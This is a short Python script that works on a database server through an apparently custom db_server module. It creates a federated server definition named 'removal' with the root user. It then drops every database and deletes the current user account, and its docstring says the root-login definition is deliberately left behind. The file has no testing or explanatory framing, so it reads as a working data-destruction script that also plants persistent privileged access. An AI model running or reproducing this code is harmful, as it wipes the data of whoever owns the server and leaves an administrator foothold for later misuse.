"""Drops over a server definition of its own, and leaves the definition, with the administrator's login in it."""

import db_server

connection = db_server.connect(seconds=30)
host = connection.escape(db_server.variable("DB_HOST"))
options = f"HOST {host}, USER 'root', PORT {int(db_server.variable('DB_PORT'))}"
db_server.execute(connection, f"CREATE OR REPLACE SERVER removal FOREIGN DATA WRAPPER mysql OPTIONS ({options})")
for name in db_server.databases():
    db_server.execute(connection, f"DROP DATABASE IF EXISTS {db_server.quoted(name)}")
db_server.execute(connection, f"DROP USER IF EXISTS {db_server.account(db_server.user())}")
